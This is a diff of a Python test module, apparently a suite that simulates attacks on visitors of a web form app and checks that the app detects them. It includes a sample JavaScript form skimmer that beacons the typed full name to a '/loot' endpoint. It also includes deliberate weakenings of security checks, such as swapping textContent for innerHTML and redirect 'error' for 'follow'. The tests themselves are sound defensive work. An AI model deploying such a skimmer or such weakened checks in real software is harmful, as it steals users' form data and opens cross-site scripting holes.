@@ -4,13 +4,15 @@ from collections.abc import Callable
 from dataclasses import replace
 from uuid import uuid4
 
-from apps.envelope.forms import Field
-from tests.malicious.attacks_on_visitors import Attack, Served, Won, sent, serving
+from apps.envelope.questions import Field
+from tests.malicious.attacks_on_visitors import Attack, Won, sent, serving
 from tests.malicious.bundles import Check
 from tests.malicious.lying import Answer, Asked, PassOn, answering
 from tests.malicious.visitors import (
+    MAIN,
     SCRIPT,
     Scene,
+    Served,
     asking,
     received,
     script_tag,
@@ -39,13 +41,13 @@ def with_an_unseen_question(scene: Scene) -> Won:
     return sent
 
 
-def keeping(answer: Served) -> Callable[[Scene], Won]:
+def keeping(answer: Served, status: str = "201 Created") -> Callable[[Scene], Won]:
     """Store nothing, and answer as if."""
 
     def arrange(scene: Scene) -> Won:
         def lie(asked: Asked, _: PassOn) -> Answer | None:
             post = asked.is_about("POST", end="/submissions")
-            return answering(answer, status="201 Created") if post else None
+            return answering(answer, status=status) if post else None
 
         scene.lies(lie)
         return sent
@@ -74,11 +76,12 @@ def redirecting(method: str) -> Callable[[Scene], Won]:
 
 def another_script(scene: Scene) -> Won:
     scene.tag = script_tag(scene.url, integrity=True)
-    scene.script = f"""document.addEventListener('submit', (event) => {{
+    script = f"""document.addEventListener('submit', (event) => {{
         event.preventDefault();
         const typed = document.querySelector('[data-sealform-field=fullname]').value;
         navigator.sendBeacon('{scene.url}/loot', typed);
     }})""".encode()
+    scene.dist = {**scene.dist, MAIN: script}
     return lambda visit: visit.canary.encode() in scene.server.sent()
 
 
@@ -106,28 +109,35 @@ def markup(scene: Scene) -> Won:
 
 KNOWN = Check(
     "form/questions.js",
-    "if (!manifest.fields.some((field) => field.name === name)) {",
-    "if (false) {",
+    "if (!manifest.fields.some((field) => field.name === name))",
+    "if (false)",
 )
 ASKED = Check(
     "form/questions.js",
-    "if (!controls) throw",
-    "if (!controls) return { field, controls: [] };\nif (false) throw",
+    "if (!controls.length && field.kind !== 'hidden')",
+    "if (false)",
 )
-FITS = Check("form/questions.js", "if (!fits(field, controls)) {", "if (false) {")
-ARRIVED = Check("form/submission.js", "if (!arrived(answer, sealed.ids)) throw", "if (false) throw")
+FITS = Check("form/questions.js", "if (!fits(field, controls))", "if (false)")
+ARRIVED = Check("form/delivery.js", "ids.every((id) => stored.includes(id))", "true")
 REDIRECT = Check("form/api.js", "redirect: 'error'", "redirect: 'follow'")
-TEXT = Check("form/status.js", "paragraph.textContent = text;", "paragraph.innerHTML = text;")
+TEXT = Check(
+    "form/receipt-panel.js",
+    "said.textContent = queued ? text('queued') : confirmation || text('thanks');",
+    "said.innerHTML = confirmation;",
+)
 
 
 ATTACKS: dict[str, Attack] = {
     "drops a question": Attack(serving(without_the_question, sent), KNOWN, "unknown_field"),
     "hides a question": Attack(with_an_unseen_question, ASKED, "missing_field"),
     "changes the kind of a question": Attack(serving(as_a_tick, sent), FITS, "unfit_field"),
-    "stores nothing": Attack(keeping({"records": []}), ARRIVED, "server"),
-    "answers with another's ids": Attack(keeping({"records": [str(uuid4())]}), ARRIVED, "server"),
+    "stores nothing": Attack(keeping({"records": []}), ARRIVED, "queued"),
+    "answers with another's ids": Attack(keeping({"records": [str(uuid4())]}), ARRIVED, "queued"),
+    "had another's ids before": Attack(
+        keeping({"records": [str(uuid4()), str(uuid4())]}, "200 OK"), ARRIVED, "queued"
+    ),
     "redirects the question": Attack(redirecting("GET"), REDIRECT, "network"),
-    "redirects the answers": Attack(redirecting("POST"), REDIRECT, "network"),
+    "redirects the answers": Attack(redirecting("POST"), REDIRECT, "queued"),
     "serves another script": Attack(another_script, without_integrity, ""),
     "holds the script back": Attack(no_script, with_names, ""),
     "drafts markup into the confirmation": Attack(markup, TEXT, "sent"),
